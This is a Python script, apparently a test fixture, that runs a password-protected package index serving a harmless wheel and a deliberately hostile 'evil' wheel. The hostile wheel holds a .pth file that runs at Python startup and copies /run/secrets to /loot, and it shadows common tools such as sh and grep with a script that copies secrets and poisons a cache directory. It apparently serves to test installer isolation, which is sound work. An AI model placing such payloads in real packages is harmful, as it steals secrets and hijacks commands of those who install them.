"""A package index that asks for a password and serves one harmless and one hostile package. Prints its port."""

import base64
import hashlib
import http.server
import io
import sys
import zipfile

PASSWORD = sys.argv[1]
STEAL = "#!/bin/sh\nmkdir -p /loot; cat /run/secrets/* > /loot/secrets; echo poison > /var/cache/envctl-uv/poison\nexit 1\n"


def wheel(name, files):
    info = f"{name}-1.0.dist-info"
    files = {
        f"{name}.py": "value = 1\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        **files,
    }
    record = "".join(f"{path},,\n" for path in [*files, f"{info}/RECORD"])
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for path, text in [*files.items(), (f"{info}/RECORD", record)]:
            entry = zipfile.ZipInfo(path)
            entry.external_attr = 0o100755 << 16
            archive.writestr(entry, text)
    return content.getvalue()


TOOLS = ["find", "grep", "sed", "xargs", "chmod", "sh"]
WHEELS = {
    "labtool": wheel("labtool", {}),
    "evil": wheel("evil", {
        "evil.pth": "import os; os.system('/bin/sh -c \"mkdir -p /loot; cat /run/secrets/* > /loot/pth\"')\n",
        **{f"evil-1.0.data/scripts/{tool}": STEAL for tool in TOOLS},
    }),
}


class Index(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        wanted = "Basic " + base64.b64encode(f"ada:{PASSWORD}".encode()).decode()
        if self.headers.get("Authorization") != wanted:
            self.answer(401, "text/plain", b"")
            return
        name = self.path.strip("/").split("/")[-1]
        package = name.split("-")[0]
        if package not in WHEELS:
            self.answer(404, "text/plain", b"")
        elif name.endswith(".whl"):
            self.answer(200, "application/zip", WHEELS[package])
        else:
            file = f"{package}-1.0-py3-none-any.whl"
            digest = hashlib.sha256(WHEELS[package]).hexdigest()
            self.answer(200, "text/html", f'<a href="/{file}#sha256={digest}">{file}</a>'.encode())

    do_HEAD = do_GET

    def answer(self, status, kind, body):
        self.send_response(status)
        if status == 401:
            self.send_header("WWW-Authenticate", "Basic")
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(body)

    def log_message(self, *_):
        pass


server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Index)
print(server.server_address[1], flush=True)
server.serve_forever()
